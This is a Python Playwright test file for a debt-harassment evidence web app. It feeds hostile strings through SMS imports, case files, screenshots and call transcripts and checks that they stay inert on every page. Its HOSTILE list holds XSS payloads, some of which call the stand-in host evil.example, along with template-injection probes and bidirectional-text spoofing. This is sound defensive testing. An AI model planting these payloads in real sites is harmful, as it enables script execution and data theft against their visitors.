"""Whatever other people wrote stays words: on no page does a script run, and nothing leaves the computer."""

from xml.sax.saxutils import quoteattr

import pytest
from playwright.sync_api import Browser

from shouzheng.intake.screenshots import engine
from shouzheng.intake.screenshots.engine import Line
from shouzheng.web.cases.brought import BROUGHT
from shouzheng.web.cases.plan_form import PLAN
from tests.intake.recordings.sounds import wav
from tests.intake.screenshots.fake import FakeEngine
from tests.web.conftest import App, let_in
from tests.web.heard_and_seen import FIGURES, picture
from tests.web.steps import CASE, NAME, make_case

HOSTILE = (
    "<script>window.ran=1;fetch('http://evil.example/')</script>",
    "</script><script src=http://evil.example/x.js></script>",
    "<img src=http://evil.example/p.png onerror=window.ran=1>",
    "<svg onload=window.ran=1><a href=javascript:window.ran=1><text>x</text></a></svg>",
    "</bdi></span></details></textarea></title><iframe src=http://evil.example/></iframe>",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{% endfor %}${7*7}",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "<style>body{background:url(http://evil.example/)}</style><link rel=stylesheet href=http://evil.example/>",
    "请还款\u202e)ten.elpmaxe(\u202c\u2066\u200b\ufeff弄死你全家\u0007\u001b[31m",
    '" onmouseover="window.ran=1" x="',
    "<form action=http://evil.example/><input name=word><button autofocus onfocus=window.ran=1>",
    "javascript:window.ran=1",
    "弄死你全家<b>" + "A" * 200_000,
    "\U0001f4a3" * 3000 + "ﷺ" * 300 + "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 50,
)
NUMBER = "13000000021"
PAGES = (
    "",
    "/who",
    "/files",
    "/numbers?all=yes",
    "/timeline",
    "/pictures",
    "/findings",
    "/next",
    "/letters",
    "/dossier",
    "/diary",
)


def _export() -> bytes:
    rows = []
    for place, words in enumerate(HOSTILE):
        safe = "".join(c for c in words if c in "\n\t" or (ord(c) >= 32 and not 0xD800 <= ord(c) < 0xE000))
        when = 1_767_000_000_000 + place * 3_600_000
        rows.append(
            f'<sms protocol="0" address="{NUMBER}" date="{when}" type="1" body={quoteattr(safe)} '
            f'contact_name={quoteattr(HOSTILE[place % 6][:80])} read="1" status="-1" />'
        )
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<smses>' + "\n".join(rows) + "</smses>").encode()


def _statement() -> str:
    name = HOSTILE[0].replace('"', "'")
    return f'''schema = 1
[case]
title = "{HOSTILE[2]}"
[[person]]
id = "me"
role = "debtor"
name = "{HOSTILE[3]}"
[[party]]
id = "lender"
kind = "creditor"
name = "{name}"
institution_kind = "consumer_finance"
numbers = ["{NUMBER}"]
note = "{HOSTILE[4]}"
known_by = "contract"
about_debt = true
[[debt]]
id = "d"
creditor = "lender"
product_kind = "online_consumer_loan"
contract_date = 2025-03-01
'''


def test_hostile_words_are_inert_on_every_page(browser: Browser, app: App) -> None:
    with let_in(browser, app) as visitor:
        make_case(visitor)
        opened = app.running.state.case(NAME)
        with opened.writing() as case:
            case.enter("statement", "case", {"name": "case.toml", "toml": _statement()})
            stored = case.add([_export()], "<img src=x onerror=window.ran=1>.xml", "text/xml")
            case.enter(BROUGHT, str(stored.no), {"person": "me", "names": []})
            case.enter("coming", HOSTILE[0], {"here": False})
        opened.work.wake()
        assert opened.work.wait(60)
        paths = [CASE + page for page in PAGES]
        paths += [f"{CASE}/who/party/lender", f"{CASE}/who/person/me", f"{CASE}/timeline?words=<script>"]
        paths += [f"{CASE}/contact/{row.id}" for row in opened.timeline.rows[-6:]]
        for path in paths:
            visitor.go(path)
            visitor.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            assert visitor.page.evaluate("window.ran") is None
            assert (
                visitor.page.locator("main script, main iframe, main base, main style, main img, main b").count() == 0
            )
            assert visitor.page.url.startswith(app.origin)
        visitor.go(f"{CASE}/letters")
        first = visitor.page.locator("section.item a.button").first
        if first.count():
            visitor.send(first)
            assert "49" not in visitor.page.locator(".paper").first.inner_text()[:200]
        assert opened.found is not None
        assert len(opened.timeline.rows) == len(HOSTILE)


def test_hostile_words_are_inert_in_the_answer_about_a_message(browser: Browser, app: App) -> None:
    with let_in(browser, app) as visitor:
        for words in (
            "转账至个人账户 http://bad.example/ " + " ".join(HOSTILE[:-2]),
            HOSTILE[-2][:30_000],
            HOSTILE[-1],
        ):
            visitor.go("/genuine")
            visitor.page.evaluate("words => { document.getElementById('words').value = words }", words)
            visitor.send(visitor.page.locator("main form button"))
            assert visitor.page.evaluate("window.ran") is None
            assert visitor.page.locator("main script, main iframe, main img, main style").count() == 0


def test_direction_marks_are_visible_instead_of_obeyed(browser: Browser, app: App) -> None:
    with let_in(browser, app) as visitor:
        visitor.go("/genuine")
        visitor.page.locator("#words").fill("转账至个人账户\u202e)moc.elpmaxe(\u202c http://bad.example/\u202eabc")
        visitor.send(visitor.page.locator("main form button"))
        assert "\u202e" not in visitor.page.locator("main").inner_html()


def test_hostile_words_are_inert_beside_pictures_recordings_and_money(
    browser: Browser, app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = [Line("2026年1月2日 20:47", 0.9, 250, 170, 470, 190)]
    lines += [Line(each[:2000], 0.5, 135, 215 + 40 * n, 400, 245 + 40 * n) for n, each in enumerate(HOSTILE)]
    monkeypatch.setattr(engine, "_rapid", lambda: FakeEngine(lines))
    transcript = "\n".join(f"[00:00:{n:02d}] 对方：{each[:3000]}" for n, each in enumerate(HOSTILE))
    name = "CallRecord_20260103-102233_<img src=x onerror=window.ran=1>.wav"
    with let_in(browser, app) as visitor:
        make_case(visitor)
        opened = app.running.state.case(NAME)
        with opened.writing() as case:
            seen = case.add([picture()], f"{HOSTILE[2]}.png", "image/svg+xml").no
            heard = case.add([wav()], name, "text/html").no
            case.add([transcript.encode()], f"{name}.transcript.txt")
            case.enter(PLAN, "plan", FIGURES | {"d0-lender": HOSTILE[0], "income": f"{HOSTILE[3]} 6800"})
        opened.work.wake()
        assert opened.work.wait(60)
        for path in (f"/screenshot/{seen}", f"/recording/{heard}", f"/recording/{heard}?t={HOSTILE[0]}", "/plan"):
            visitor.go(CASE + path)
            visitor.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            assert visitor.page.evaluate("window.ran") is None
            strange = "main script, main iframe, main base, main style, main b, main img:not(.whole)"
            assert visitor.page.locator(strange).count() == 0
        visitor.go(f"{CASE}/screenshot/{seen}")
        visitor.press("都对了，按这个用")
        assert opened.work.wait(60)
        visitor.go(f"{CASE}/recording/{heard}")
        assert visitor.page.locator(".pieces li").count() == len(HOSTILE)
        visitor.page.get_by_text("改正，或者再加几段").click()
        visitor.press("听过，都对了，存好")
        assert visitor.page.evaluate("window.ran") is None
